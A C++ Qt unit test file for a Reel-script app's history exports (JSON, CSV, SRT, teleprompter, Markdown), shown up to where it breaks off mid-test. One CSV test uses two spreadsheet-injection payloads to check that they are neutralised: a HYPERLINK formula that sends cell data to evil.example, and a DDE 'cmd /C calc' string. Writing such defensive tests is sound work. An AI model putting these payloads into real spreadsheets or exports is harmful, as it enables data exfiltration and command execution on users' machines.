// History exports: the JSON export restores every detail of a script (and refuses a damaged,
// foreign or newer file, saying where), each script in it is the original service's answer
// envelope, the CSV opens in a spreadsheet with awkward text intact, captions fit the Reel, and
// the teleprompter and Markdown hold what a presenter and a reader expect.

#include "common/Clock.h"
#include "common/Csv.h"
#include "history/HistoryExport.h"
#include "model/JsonCodec.h"
#include "text/SpeakingRate.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTest>
#include <QTimeZone>

#include <functional>

using namespace reel;
using namespace reel::history;

namespace {

QDateTime at(int day, int hour, int minute, int ms, int offsetSeconds = 0)
{
    return QDateTime(QDate(2026, 3, day), QTime(hour, minute, 7, ms), QTimeZone(offsetSeconds));
}

ReelScript script(const QString& hook)
{
    ReelScript s;
    s.hook = hook;
    s.body = QStringLiteral("Pastéis de nata, warm from the oven, at 7:30.\n"
                            "Grab one with a \"cafézinho\" and you're out the door in 3 minutes — ça marche!");
    s.cta = QStringLiteral("Tap the link, order ahead, skip the line.");
    s.caption = QStringLiteral(
            "Breakfast, sorted ☕🥐\nSay \"bom dia\" to mornings that work, not mornings that rush.");
    s.hashtags = {QStringLiteral("#CafeAurora"), QStringLiteral("#Lisboa"), QStringLiteral("#PastelDeNata")};
    s.onScreenText = {QStringLiteral("No time? 3 minutes."), QStringLiteral("Order ahead, \"skip\" the line")};
    s.shots = {{0.0, 2.5, QStringLiteral("Close-up: nata, steam"), QStringLiteral("Still skipping breakfast?")},
               {2.5, 9.25, QStringLiteral("Barista | hands"), QString()}};
    s.thumbnailText = QStringLiteral("3-minute breakfast");
    s.unknownFields = QByteArrayLiteral("{\"x_mood\":\"cosy\"}");
    return s;
}

HistoryEntry fullEntry()
{
    HistoryEntry e;
    GenerationRecord& r = e.record;
    r.id = 42;
    r.uuid = QStringLiteral("6f1c2a4e-2b7d-4c51-9a1e-0d5b8f3e7a10");
    r.title = QStringLiteral("Breakfast, \"sorted\"\n— Café Aurora 🥐");
    r.profileId = 7;
    r.profile.brandName = QStringLiteral("Café Aurora, «Lisboa»");
    r.profile.sector = QStringLiteral("food");
    r.profile.targetAudience = {QStringLiteral("22-35"),
                                QStringLiteral("all"),
                                QStringLiteral("Lisbon, PT"),
                                {QStringLiteral("no time for breakfast")},
                                {}};
    r.profile.brandVoice = {QStringLiteral("friendly"), QStringLiteral("casual")};
    r.profile.offer = QStringLiteral("First pastel de nata free\nwith any coffee");
    r.profile.doNotUse = {QStringLiteral("cheap")};
    r.profile.requiredHashtags = {QStringLiteral("#CafeAurora")};
    r.request.goal = QStringLiteral("conversion");
    r.request.hookType = QStringLiteral("question");
    r.request.emotion = QStringLiteral("curiosity");
    r.request.scriptLength = 30;
    r.request.cta = QStringLiteral("Order ahead");
    r.request.topic = QStringLiteral("Morning rush, \"no time\"\nfor breakfast");
    r.language = QStringLiteral("en");
    r.provider = QStringLiteral("openai");
    r.model = QStringLiteral("gpt-4o-mini");
    r.promptVersion = QStringLiteral("v3");
    r.retrievedIds = {3, 9, 27};
    r.usage = {1200, 340, 1540};
    r.costUsd = 0.00123;
    r.latencyMs = 1834;
    r.attempts = 2;
    r.firstAttemptErrors = 1;
    r.warnings = 1;
    r.score = 87;
    r.validation = {true, {}, {QStringLiteral("caption: longer than 125 characters")}};
    r.variantGroup = QStringLiteral("g-1");
    r.variantIndex = 1;
    r.status = QStringLiteral("published");
    r.script = script(QStringLiteral("Still skipping breakfast, \"because there's no time\"? 🥐"));
    r.currentVersion = 3;
    r.createdAt = at(1, 9, 30, 123, 3600);
    r.updatedAt = at(2, 18, 5, 999);

    e.versions = {
            {1, QStringLiteral("generated"), QStringLiteral("ana"), QString(),
             script(QStringLiteral("Skipping breakfast again?")), at(1, 9, 30, 123), false},
            {2, QStringLiteral("edit"), QStringLiteral("bo"), QStringLiteral("tightened, \"punchier\" hook"),
             script(QStringLiteral("Still skipping breakfast?")), at(1, 10, 2, 5), true},
            {3, QStringLiteral("restore"), QStringLiteral("ana"), QStringLiteral("back to v2\nwith quotes"), r.script,
             at(2, 18, 5, 999), false},
    };
    e.versions[1].script.shots.clear();
    e.ratings = {
            {11,
             5,
             Thumb::Up,
             {QStringLiteral("strong_hook"), QStringLiteral("on_brand")},
             QStringLiteral("Love it, \"really\"\nship it"),
             QStringLiteral("ana"),
             at(2, 11, 0, 1)},
            {12,
             std::nullopt,
             Thumb::Down,
             {QStringLiteral("too_long")},
             QString(),
             QStringLiteral("bo"),
             at(2, 12, 0, 2)},
    };
    e.statusChanges = {
            {1, QString(), QStringLiteral("draft"), QStringLiteral("ana"), QString(), at(1, 9, 30, 123)},
            {2, QStringLiteral("draft"), QStringLiteral("in_review"), QStringLiteral("ana"), QString(),
             at(1, 10, 0, 0)},
            {3, QStringLiteral("in_review"), QStringLiteral("approved"), QStringLiteral("bo"), QStringLiteral("ok, go"),
             at(2, 9, 0, 0)},
            {4, QStringLiteral("approved"), QStringLiteral("published"), QStringLiteral("bo"), QString(),
             at(2, 18, 0, 0)},
    };
    Performance p;
    p.figures.views = 123456789012LL; // more than an int holds
    p.figures.likes = 5400;
    p.figures.shares = 12;
    p.figures.saves = 0;
    p.postedOn = QDate(2026, 3, 2);
    p.updatedAt = at(5, 8, 0, 250);
    e.performance = p;
    return e;
}

HistoryEntry japaneseEntry()
{
    HistoryEntry e;
    GenerationRecord& r = e.record;
    r.id = 43;
    r.uuid = QStringLiteral("a0b1c2d3-0000-4000-8000-000000000001");
    r.title = QStringLiteral("朝ごはん");
    r.profile.brandName = QStringLiteral("カフェ・オーロラ");
    r.profile.sector = QStringLiteral("food");
    r.request = {QStringLiteral("awareness"),
                 QStringLiteral("story"),
                 QStringLiteral("joy"),
                 60,
                 QStringLiteral("japanese"),
                 {},
                 {},
                 {}};
    r.language = QStringLiteral("ja");
    r.provider = QStringLiteral("offline");
    r.script.hook = QStringLiteral("朝ごはんを食べる時間がないと思っていませんか。");
    r.script.body = QStringLiteral("焼きたてのエッグタルトとコーヒーを三分で受け取れます。毎朝のあわただしい時間でも、"
                                   "お店の前を通るだけで温かい朝ごはんがあなたを待っています。アプリで事前に注文して、"
                                   "列に並ばずにそのまま出発しましょう。");
    r.script.cta = QStringLiteral("今すぐアプリで注文してください。");
    r.script.caption = QStringLiteral("朝ごはん、三分で。");
    r.script.hashtags = {QStringLiteral("#朝ごはん")};
    r.createdAt = at(3, 7, 0, 1);
    r.updatedAt = r.createdAt;
    e.versions = {{1, QStringLiteral("generated"), QStringLiteral("ken"), QString(), r.script, r.createdAt, false}};
    return e;
}

void compareEntries(const HistoryEntry& got, const HistoryEntry& want)
{
    const GenerationRecord& a = got.record;
    const GenerationRecord& b = want.record;
    QCOMPARE(a.id, b.id);
    QCOMPARE(a.uuid, b.uuid);
    QCOMPARE(a.title, b.title);
    QCOMPARE(a.profileId, b.profileId);
    QCOMPARE(a.profile, b.profile);
    QCOMPARE(a.request, b.request);
    QCOMPARE(a.language, b.language);
    QCOMPARE(a.provider, b.provider);
    QCOMPARE(a.model, b.model);
    QCOMPARE(a.promptVersion, b.promptVersion);
    QCOMPARE(a.retrievedIds, b.retrievedIds);
    QCOMPARE(a.usage, b.usage);
    QCOMPARE(a.costUsd, b.costUsd);
    QCOMPARE(a.latencyMs, b.latencyMs);
    QCOMPARE(a.attempts, b.attempts);
    QCOMPARE(a.firstAttemptErrors, b.firstAttemptErrors);
    QCOMPARE(a.errors, b.errors);
    QCOMPARE(a.warnings, b.warnings);
    QCOMPARE(a.score, b.score);
    QCOMPARE(a.validation, b.validation);
    QCOMPARE(a.variantGroup, b.variantGroup);
    QCOMPARE(a.variantIndex, b.variantIndex);
    QCOMPARE(a.status, b.status);
    QVERIFY(a.script == b.script);
    QCOMPARE(a.currentVersion, b.currentVersion);
    QCOMPARE(a.createdAt, b.createdAt);
    QCOMPARE(a.updatedAt, b.updatedAt);

    QCOMPARE(got.versions.size(), want.versions.size());
    for (qsizetype i = 0; i < want.versions.size(); ++i) {
        const ScriptVersion& v = got.versions.at(i);
        const ScriptVersion& w = want.versions.at(i);
        QCOMPARE(v.number, w.number);
        QCOMPARE(v.kind, w.kind);
        QCOMPARE(v.author, w.author);
        QCOMPARE(v.note, w.note);
        QVERIFY(v.script == w.script);
        QCOMPARE(v.createdAt, w.createdAt);
        QCOMPARE(v.autosaved, w.autosaved);
    }
    QCOMPARE(got.ratings.size(), want.ratings.size());
    for (qsizetype i = 0; i < want.ratings.size(); ++i)
        QVERIFY(got.ratings.at(i) == want.ratings.at(i));
    QCOMPARE(got.statusChanges.size(), want.statusChanges.size());
    for (qsizetype i = 0; i < want.statusChanges.size(); ++i)
        QVERIFY(got.statusChanges.at(i) == want.statusChanges.at(i));
    QCOMPARE(got.performance.has_value(), want.performance.has_value());
    if (want.performance)
        QVERIFY(*got.performance == *want.performance);
}

QJsonObject exported(const QList<HistoryEntry>& entries)
{
    return QJsonDocument::fromJson(toJson(entries)).object();
}

/// Changes one member of an export, by a path of object keys and array indexes.
QByteArray withChange(const QList<HistoryEntry>& entries, const std::function<void(QJsonObject&)>& change)
{
    QJsonObject o = exported(entries);
    change(o);
    return QJsonDocument(o).toJson();
}

struct SrtCue
{
    int number = 0;
    qint64 startMs = 0;
    qint64 endMs = 0;
    QStringList lines;
};

QList<SrtCue> parseSrt(const QByteArray& srt, bool& ok)
{
    static const QRegularExpression time(
            QStringLiteral("^(\\d\\d):(\\d\\d):(\\d\\d),(\\d\\d\\d) --> (\\d\\d):(\\d\\d):(\\d\\d),(\\d\\d\\d)$"));
    ok = true;
    QList<SrtCue> cues;
    const QStringList blocks = QString::fromUtf8(srt).split(QStringLiteral("\n\n"), Qt::SkipEmptyParts);
    for (const QString& block : blocks) {
        const QStringList lines = block.split(u'\n', Qt::SkipEmptyParts);
        const auto m = lines.size() >= 3 ? time.match(lines.at(1)) : QRegularExpressionMatch();
        if (!m.hasMatch()) {
            ok = false;
            return cues;
        }
        const auto ms = [&](int first) {
            return m.captured(first).toLongLong() * 3'600'000 + m.captured(first + 1).toLongLong() * 60'000
                   + m.captured(first + 2).toLongLong() * 1000 + m.captured(first + 3).toLongLong();
        };
        cues.append({lines.at(0).toInt(), ms(1), ms(5), lines.mid(2)});
    }
    return cues;
}

/// The words a voice speaks: whitespace-separated tokens holding a letter or digit (emoji are silent).
QStringList spokenWords(const QString& text)
{
    static const QRegularExpression space(QStringLiteral("\\s+"));
    QStringList out;
    for (const QString& w : text.split(space, Qt::SkipEmptyParts)) {
        if (std::any_of(w.cbegin(), w.cend(), [](QChar c) { return c.isLetterOrNumber(); }))
            out.append(w);
    }
    return out;
}

QString spokenText(const ReelScript& s)
{
    return s.hook + u' ' + s.body + u' ' + s.cta;
}

/// SRT invariants a player relies on: numbered 1..n, each cue starts before it ends and after the
/// previous one ended, at most two lines of 42 characters, the last ending within the Reel.
void checkSrt(const QList<SrtCue>& cues, int scriptLength)
{
    QVERIFY(!cues.isEmpty());
    qint64 previousEnd = 0;
    for (qsizetype i = 0; i < cues.size(); ++i) {
        const SrtCue& c = cues.at(i);
        QCOMPARE(c.number, i + 1);
        QVERIFY2(c.startMs < c.endMs, qPrintable(QStringLiteral("cue %1").arg(c.number)));
        QVERIFY(c.startMs >= previousEnd);
        QVERIFY(c.lines.size() >= 1 && c.lines.size() <= 2);
        for (const QString& line : c.lines)
            QVERIFY2(line.size() <= 42 || !line.contains(u' '), qPrintable(line));
        previousEnd = c.endMs;
    }
    QVERIFY(cues.first().startMs == 0);
    QVERIFY2(cues.last().endMs <= qint64(scriptLength) * 1000, qPrintable(QString::number(cues.last().endMs)));
}

} // namespace

class TestHistoryExport : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase()
    {
        QStandardPaths::setTestModeEnabled(true);
        Clock::setSource([] { return QDateTime(QDate(2026, 4, 1), QTime(12, 0, 0, 500), QTimeZone::utc()); });
    }

    void cleanupTestCase() { Clock::setSource(nullptr); }

    void formatNames()
    {
        for (Format f : {Format::Markdown, Format::Csv, Format::Json, Format::Teleprompter, Format::Srt})
            QCOMPARE(formatFromName(suffix(f)), std::optional<Format>(f));
        QCOMPARE(formatFromName(QStringLiteral("Markdown")), std::optional<Format>(Format::Markdown));
        QCOMPARE(formatFromName(QStringLiteral("teleprompter")), std::optional<Format>(Format::Teleprompter));
        QVERIFY(!formatFromName(QStringLiteral("pdf")));
    }

    void jsonRoundTripKeepsEverything()
    {
        const QList<HistoryEntry> entries = {fullEntry(), japaneseEntry()};
        const auto back = fromJson(toJson(entries));
        QVERIFY2(back.ok(), qPrintable(back ? QString() : back.error().toEnglish()));
        QCOMPARE(back->size(), 2);
        for (qsizetype i = 0; i < entries.size(); ++i) {
            compareEntries(back->at(i), entries.at(i));
            if (QTest::currentTestFailed())
                return;
        }
        const auto empty = fromJson(toJson({}));
        QVERIFY(empty.ok());
        QVERIFY(empty->isEmpty());
    }

    void jsonHeaderAndTimestamps()
    {
        const QJsonObject o = exported({fullEntry()});
        QCOMPARE(o.value(u"format").toString(), QStringLiteral("reelstudio-history"));
        QCOMPARE(o.value(u"version").toInt(), 1);
        QCOMPARE(o.value(u"exported_at").toString(), QStringLiteral("2026-04-01T12:00:00.500Z"));
        const QJsonObject rs = o.value(u"scripts").toArray().at(0).toObject().value(u"reelstudio").toObject();
        // 09:30:07.123 at +01:00 is 08:30:07.123 UTC.
        QCOMPARE(rs.value(u"created_at").toString(), QStringLiteral("2026-03-01T08:30:07.123Z"));
        QCOMPARE(rs.value(u"ratings").toArray().at(0).toObject().value(u"at").toString(),
                 QStringLiteral("2026-03-02T11:00:07.001Z"));
    }

    void jsonScriptIsTheOriginalEnvelope()
    {
        const HistoryEntry entry = fullEntry();
        const QJsonObject item = exported({entry}).value(u"scripts").toArray().at(0).toObject();
        const auto answer = codec::decodeAnswer(QJsonDocument(item).toJson());
        QVERIFY(answer.ok());
        QVERIFY(answer.value.script == entry.record.script);
        QCOMPARE(answer.value.validation, entry.record.validation);
        QCOMPARE(answer.value.metadata.brand, entry.record.profile.brandName);
        QCOMPARE(answer.value.metadata.sector, QStringLiteral("food"));
        QCOMPARE(answer.value.metadata.goal, QStringLiteral("conversion"));
        QCOMPARE(answer.value.metadata.hookType, QStringLiteral("question"));
        QCOMPARE(answer.value.metadata.scriptLength, 30);
        // The request inside is the original service's request body, usable as is.
        const QJsonObject request = item.value(u"reelstudio").toObject().value(u"request").toObject();
        const auto file = codec::decodeRequestFile(QJsonDocument(request).toJson());
        QVERIFY(file.ok());
        QCOMPARE(file.value.brandProfile, entry.record.profile);
        QCOMPARE(file.value.scriptRequest, entry.record.request);
    }

    void jsonRefusesNonJson()
    {
        const auto r = fromJson(QByteArrayLiteral("{\n  \"format\": \"reelstudio-history\",\n  \"version\": 1,,\n}"));
        QVERIFY(!r.ok());
        QCOMPARE(r.error().code, ErrorCode::InvalidInput);
        QCOMPARE(r.error().fields.size(), 1);
        const FieldError& e = r.error().fields.first();
        QCOMPARE(e.kind, FieldErrorKind::Syntax);
        QCOMPARE(e.args.value(0), QStringLiteral("3")); // line
        QVERIFY(e.args.value(1).toInt() > 0);           // column

        QCOMPARE(fromJson(QByteArrayLiteral("[1, 2]")).error().code, ErrorCode::InvalidInput);
        QCOMPARE(fromJson(QByteArray()).error().fields.value(0).kind, FieldErrorKind::Syntax);
    }

    void jsonRefusesForeignFormat()
    {
        const QByteArray profile = codec::encodeProfileFile(fullEntry().record.profile);
        const auto r = fromJson(profile);
        QVERIFY(!r.ok());
        QCOMPARE(r.error().code, ErrorCode::InvalidInput);
        QCOMPARE(r.error().fields.value(0).path, QStringLiteral("format"));

        const auto wrong = fromJson(withChange({fullEntry()}, [](QJsonObject& o) {
            o.insert(QStringLiteral("format"), QStringLiteral("reelstudio.examples"));
        }));
        QVERIFY(!wrong.ok());
        QCOMPARE(wrong.error().fields.value(0).path, QStringLiteral("format"));
        QCOMPARE(wrong.error().fields.value(0).kind, FieldErrorKind::NotOneOf);
    }

    void jsonRefusesNewerVersion()
    {
        const auto r = fromJson(
                withChange({fullEntry()}, [](QJsonObject& o) { o.insert(QStringLiteral("version"), 2); }));
        QVERIFY(!r.ok());
        QCOMPARE(r.error().code, ErrorCode::FormatTooNew);
        QCOMPARE(r.error().args.value(1), QStringLiteral("2"));
        QCOMPARE(r.error().args.value(2), QStringLiteral("1"));
    }

    void jsonNamesEveryWrongMember()
    {
        const QByteArray json = withChange({fullEntry(), japaneseEntry()}, [](QJsonObject& o) {
            QJsonArray scripts = o.value(u"scripts").toArray();
            QJsonObject first = scripts.at(0).toObject();
            QJsonObject rs = first.value(u"reelstudio").toObject();
            QJsonArray ratings = rs.value(u"ratings").toArray();
            QJsonObject rating = ratings.at(0).toObject();
            rating.insert(QStringLiteral("stars"), QStringLiteral("5"));
            ratings.replace(0, rating);
            rs.insert(QStringLiteral("ratings"), ratings);
            first.insert(QStringLiteral("reelstudio"), rs);
            scripts.replace(0, first);
            QJsonObject second = scripts.at(1).toObject();
            second.remove(QStringLiteral("script"));
            scripts.replace(1, second);
            o.insert(QStringLiteral("scripts"), scripts);
        });
        const auto r = fromJson(json);
        QVERIFY(!r.ok());
        QCOMPARE(r.error().code, ErrorCode::InvalidInput);
        QStringList paths;
        for (const FieldError& e : r.error().fields)
            paths.append(e.path);
        QCOMPARE(paths, (QStringList{QStringLiteral("scripts[0].reelstudio.ratings[0].stars"),
                                     QStringLiteral("scripts[1].script")}));
        QCOMPARE(r.error().fields.at(0).kind, FieldErrorKind::WrongType);
        QCOMPARE(r.error().fields.at(1).kind, FieldErrorKind::Missing);
        QVERIFY2(r.error().fields.at(0).line > 1, "the line of the wrong value is named");
    }

    void jsonNamesNestedScriptMembers()
    {
        const QByteArray json = withChange({fullEntry()}, [](QJsonObject& o) {
            QJsonArray scripts = o.value(u"scripts").toArray();
            QJsonObject first = scripts.at(0).toObject();
            QJsonObject rs = first.value(u"reelstudio").toObject();
            QJsonArray versions = rs.value(u"versions").toArray();
            QJsonObject v = versions.at(2).toObject();
            QJsonObject s = v.value(u"script").toObject();
            s.insert(QStringLiteral("hashtags"), 5);
            v.insert(QStringLiteral("script"), s);
            v.insert(QStringLiteral("created_at"), QStringLiteral("yesterday"));
            versions.replace(2, v);
            rs.insert(QStringLiteral("versions"), versions);
            QJsonObject perf = rs.value(u"performance").toObject();
            perf.insert(QStringLiteral("views"), QStringLiteral("many"));
            rs.insert(QStringLiteral("performance"), perf);
            first.insert(QStringLiteral("reelstudio"), rs);
            scripts.replace(0, first);
            o.insert(QStringLiteral("scripts"), scripts);
        });
        const auto r = fromJson(json);
        QVERIFY(!r.ok());
        QStringList paths;
        for (const FieldError& e : r.error().fields)
            paths.append(e.path);
        QVERIFY2(paths.contains(QStringLiteral("scripts[0].reelstudio.versions[2].script.hashtags")),
                 qPrintable(paths.join(u',')));
        QVERIFY(paths.contains(QStringLiteral("scripts[0].reelstudio.versions[2].created_at")));
        QVERIFY(paths.contains(QStringLiteral("scripts[0].reelstudio.performance.views")));
    }

    void jsonKeepsRuleOverrides()
    {
        HistoryEntry entry = fullEntry();
        entry.record.profile.ruleOverrides.insert(QStringLiteral("hashtags.max"), 3);
        const auto back = fromJson(toJson({entry}));
        QVERIFY(back.ok());
        QCOMPARE(back->first().record.profile.ruleOverrides, entry.record.profile.ruleOverrides);
        // Read as what it is, not kept as an unknown member as well.
        QVERIFY(back->first().record.profile.unknownFields.isEmpty());
    }

    void csvCellsASpreadsheetWouldRunAreNeutralised()
    {
        // A model's answer or an imported file can put a formula where a caption goes.
        HistoryEntry entry = fullEntry();
        entry.record.script.caption = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")");
        entry.record.title = QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0");
        const QByteArray csv = toCsv({entry});
        QVERIFY(csv.contains("\"'=HYPERLINK("));
        QVERIFY(!csv.contains(",=HYPERLINK") && !csv.contains("\"=HYPERLINK"));
        QVERIFY(csv.contains("'@SUM(1+1)"));
        const QList<QStringList> rows = parseCsv(csv);
        const QStringList header = rows.at(0);
        QCOMPARE(rows.at(1).value(header.indexOf(QStringLiteral("caption"))), entry.record.script.caption);
        QCOMPARE(rows.at(1).value(header.indexOf(QStringLiteral("title"))), entry.record.title);
    }

    void csvParsesBackToTheSameFields()
    {
        const HistoryEntry entry = fullEntry();
        const QByteArray csv = toCsv({entry, japaneseEntry()});
        QVERIFY(csv.endsWith("\r\n"));
        QVERIFY(!csv.startsWith("\xEF\xBB\xBF"));
        QVERIFY(csv.contains("\"\"because there's no time\"\"")); // quotes doubled inside a quoted field

        const QList<QStringList> rows = parseCsv(csv);
        QCOMPARE(rows.size(), 3);
        const QStringList header = rows.at(0);
        QCOMPARE(header.size(), 37);
        for (const QStringList& row : rows)
            QCOMPARE(row.size(), header.size());
        const auto field = [&](int row, const char* name) {
            return rows.at(row).value(header.indexOf(QLatin1String(name)));
        };
        const GenerationRecord& r = entry.record;
        QCOMPARE(field(1, "id"), QStringLiteral("42"));
        QCOMPARE(field(1, "uuid"), r.uuid);
        QCOMPARE(field(1, "created_at"), QStringLiteral("2026-03-01T08:30:07.123Z"));
        QCOMPARE(field(1, "title"), r.title);
        QCOMPARE(field(1, "brand"), r.profile.brandName);
        QCOMPARE(field(1, "status"), QStringLiteral("published"));
        QCOMPARE(field(1, "hook"), r.script.hook);
        QCOMPARE(field(1, "body"), r.script.body);
        QCOMPARE(field(1, "cta"), r.script.cta);
        QCOMPARE(field(1, "caption"), r.script.caption);
        QCOMPARE(field(1, "hashtags"), QStringLiteral("#CafeAurora #Lisboa #PastelDeNata"));
        QCOMPARE(field(1, "avg_stars"), QStringLiteral("5.00"));
        QCOMPARE(field(1, "rating_count"), QStringLiteral("2"));
        QCOMPARE(field(1, "thumbs_up"), QStringLiteral("1"));
        QCOMPARE(field(1, "thumbs_down"), QStringLiteral("1"));
        QCOMPARE(field(1, "prompt_tokens"), QStringLiteral("1200"));
        QCOMPARE(field(1, "latency_ms"), QStringLiteral("1834"));
        QCOMPARE(field(1, "cost_usd").toDouble(), 0.00123);
        QCOMPARE(field(1, "views"), QStringLiteral("123456789012"));
        QCOMPARE(field(1, "comments"), QString());
        QCOMPARE(field(1, "saves"), QStringLiteral("0"));
        QCOMPARE(field(2, "hook"), japaneseEntry().record.script.hook);
        QCOMPARE(field(2, "avg_stars"), QString());
        QCOMPARE(field(2, "views"), QString());

        // Records end in CRLF; a line feed alone only appears inside quoted text.
        const QString text = QString::fromUtf8(csv);
        QVERIFY(text.startsWith(header.join(u',') + QStringLiteral("\r\n")));
        QCOMPARE(text.count(QStringLiteral("\r\n")), 3);
    }

    void srtFitsTheReel()
    {
        const HistoryEntry entry = fullEntry();
        const QList<Cue> cues = captionCues(entry);
        bool ok = false;
        const QList<SrtCue> srt = parseSrt(toSrt(cues), ok);
        QVERIFY(ok);
        checkSrt(srt, entry.record.request.scriptLength);
        if (QTest::currentTestFailed())
            return;
        QCOMPARE(srt.size(), cues.size());
        for (qsizetype i = 0; i < cues.size(); ++i) {
            QCOMPARE(srt.at(i).startMs, qRound64(cues.at(i).startS * 1000));
            QCOMPARE(srt.at(i).endMs, qRound64(cues.at(i).endS * 1000));
        }

        QStringList words;
        for (const SrtCue& c : srt)
            words += spokenWords(c.lines.join(u' '));
        QCOMPARE(words, spokenWords(spokenText(entry.record.script)));
        QVERIFY(!toSrt(cues).contains("#CafeAurora"));
        QVERIFY(toSrt({}).isEmpty());
    }

    void cuesFollowTheSpeakingRate()
    {
        HistoryEntry entry = fullEntry();
        entry.record.request.scriptLength = 180; // room enough: nothing is compressed
        const QList<Cue> cues = captionCues(entry);
        double expected = 0;
        for (const Cue& c : cues)
            expected += std::max(text::SpeakingRates::seconds(c.text, QStringLiteral("en")), 0.7);
        QVERIFY(std::abs(cues.last().endS - expected) < 0.01);
        // About 150 words a minute for English.
        const double words = double(spokenWords(spokenText(entry.record.script)).size());
        QVERIFY(cues.last().endS >= words / 150.0 * 60.0 - 0.5);

        // The user's own, slower rate makes longer captions.
        const QList<Cue> slow = captionCues(entry, text::SpeakingRate{text::RateUnit::WordsPerMinute, 75});
        QCOMPARE(slow.size(), cues.size());
        QVERIFY(slow.last().endS > cues.last().endS * 1.5);
    }

    void longScriptIsCompressedIntoItsLength()
    {
        HistoryEntry entry = fullEntry();
        QStringList sentences;
        for (int i = 0; i < 40; ++i)
            sentences.append(
                    QStringLiteral("Sentence number %1 keeps the viewer watching a little longer, right?").arg(i));
        entry.record.script.body = sentences.join(u' ');
        entry.record.request.scriptLength = 15;
        const QList<Cue> cues = captionCues(entry);
        QVERIFY(cues.size() > 40);
        QVERIFY(cues.last().endS <= 15.0);
        QVERIFY(cues.last().endS > 14.9);
        bool ok = false;
        const QList<SrtCue> srt = parseSrt(toSrt(cues), ok);
        QVERIFY(ok);
        checkSrt(srt, 15);
        if (QTest::currentTestFailed())
            return;
        QStringList words;
        for (const SrtCue& c : srt)
            words += spokenWords(c.lines.join(u' '));
        QCOMPARE(words, spokenWords(spokenText(entry.record.script)));
    }

    void veryLongWordIsItsOwnLine()
    {
        HistoryEntry entry = fullEntry();
        const QString longWord = QString(60, u'a');
        entry.record.script.hook = QStringLiteral("Say ") + longWord + QStringLiteral(" now.");
        const QList<Cue> cues = captionCues(entry);
        QCOMPARE(cues.first().text, QStringLiteral("Say\n") + longWord);
        QCOMPARE(cues.at(1).text, QStringLiteral("now."));
    }

    void japaneseCuesCountCharacters()
    {
        const HistoryEntry entry = japaneseEntry();
        const QList<Cue> cues = captionCues(entry);
        QVERIFY(cues.size() >= 4);
        QString joined;
        double expected = 0;
        for (const Cue& c : cues) {
            for (const QString& line : c.text.split(u'\n')) {
                QVERIFY2(line.size() <= 42, qPrintable(line));
                QVERIFY2(!line.startsWith(u'。') && !line.startsWith(u'、'), qPrintable(line)); // kinsoku
            }
            joined += QString(c.text).remove(u'\n');
            expected += std::max(text::SpeakingRates::seconds(c.text, QStringLiteral("ja")), 0.7);
        }
        QCOMPARE(joined, spokenText(entry.record.script).remove(u' '));
        // 300 characters a minute: the hook's 22 spoken characters take 4.4 s.
        QVERIFY(std::abs(cues.first().endS - 4.4) < 0.01);
        QVERIFY(std::abs(cues.last().endS - expected) < 0.01);
        bool ok = false;
        checkSrt(parseSrt(toSrt(cues), ok), entry.record.request.scriptLength);
        QVERIFY(ok);
    }

    void teleprompterHoldsTheSpokenTextOnly()
    {
        const HistoryEntry entry = fullEntry();
        const QString text = QString::fromUtf8(toTeleprompter({entry, japaneseEntry()}));
        QCOMPARE(spokenWords(text).mid(0, 4), spokenWords(entry.record.title.toUpper()));
        QString spoken = text;
        spoken.replace(entry.record.title.simplified().toUpper(), QString());
        const QStringList words = spokenWords(spoken);
        const QStringList want = spokenWords(spokenText(entry.record.script));
        QCOMPARE(words.mid(0, want.size()), want);
        QVERIFY(!text.contains(QStringLiteral("#CafeAurora")));
        QVERIFY(!text.contains(QStringLiteral("Breakfast, sorted")));
        QVERIFY(!text.contains(QStringLiteral("gpt-4o-mini")));
        QVERIFY(text.contains(japaneseEntry().record.script.cta));
        const QString title = entry.record.title.simplified().toUpper();
        for (const QString& line : text.split(u'\n'))
            QVERIFY2(line == title || line.size() <= 32 || !line.contains(u' '), qPrintable(line));
    }

    void markdownHasTitleFactsAndSections()
    {
        const HistoryEntry entry = fullEntry();
        const QString md = QString::fromUtf8(toMarkdown({entry, japaneseEntry()}));
        QVERIFY(md.startsWith(QStringLiteral("# Breakfast, \"sorted\" — Café Aurora 🥐\n")));
        for (const char* heading :
             {"## Hook", "## Body", "## CTA", "## Caption", "## Hashtags", "## On-screen text", "## Shots"})
            QVERIFY2(md.contains(QLatin1String(heading)), heading);
        QVERIFY(md.indexOf(QStringLiteral("## Hook")) < md.indexOf(QStringLiteral("## Body")));
        QVERIFY(md.indexOf(QStringLiteral("## Body")) < md.indexOf(QStringLiteral("## CTA")));
        QVERIFY(md.contains(entry.record.profile.brandName));
        // Labels, never ids: the workflow state and the request's catalog values.
        QVERIFY2(md.contains(QStringLiteral("**Status:** Published")), qPrintable(md));
        QVERIFY(md.contains(QStringLiteral("5.0/5")));
        QVERIFY(md.contains(QStringLiteral("1 up, 1 down")));
        QVERIFY(md.contains(QStringLiteral("gpt-4o-mini")));
        QVERIFY(md.contains(QStringLiteral("1200 prompt + 340 completion tokens")));
        QVERIFY(md.contains(QStringLiteral("$0.0012")));
        QVERIFY(md.contains(QStringLiteral("1.8 s")));
        QVERIFY(md.contains(QStringLiteral("#CafeAurora #Lisboa #PastelDeNata")));
        QVERIFY(md.contains(QStringLiteral("Barista \\| hands"))); // a pipe cannot break the shot table
        QVERIFY(md.contains(entry.record.script.hook));
        QVERIFY(md.contains(QStringLiteral("# 朝ごはん")));
        QVERIFY(md.contains(QStringLiteral("\n---\n")));
    }

    void markdownWordsCanBeReplaced()
    {
        // The app writes the document in the interface language through DocumentWords.
        HistoryEntry entry = fullEntry();
        entry.record.status = QStringLiteral("in_review");
        entry.record.request.goal = QStringLiteral("awareness");
        entry.record.request.hookType = QStringLiteral("question");
        entry.record.request.emotion = QStringLiteral("curiosity");
        entry.record.language = QStringLiteral("en");
        const QString english = QString::fromUtf8(toMarkdown({entry}));
        QVERIFY2(!english.contains(QStringLiteral("in_review")), qPrintable(english));
        QVERIFY2(english.contains(QStringLiteral("**Status:** In review")), qPrintable(english));
        QVERIFY2(english.contains(QStringLiteral("Awareness · Question · Curiosity · English")), qPrintable(english));

        DocumentWords words;
        words.label = [](const QString& text) { return QStringLiteral("<%1>").arg(text); };
        words.status = [](const QString& id) { return QStringLiteral("status:%1").arg(id); };
        words.catalog = [](CatalogKind, const QString& id) { return QStringLiteral("c:%1").arg(id); };
